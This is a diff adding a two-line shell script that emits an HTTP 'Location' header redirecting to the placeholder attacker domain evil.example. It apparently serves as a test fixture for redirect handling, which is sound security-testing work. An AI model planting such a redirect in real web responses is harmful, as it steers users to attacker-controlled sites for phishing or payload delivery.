@@ -1,0 +1,2 @@
+#!/bin/sh
+printf 'Location: http://evil.example/\r\n\r\n'
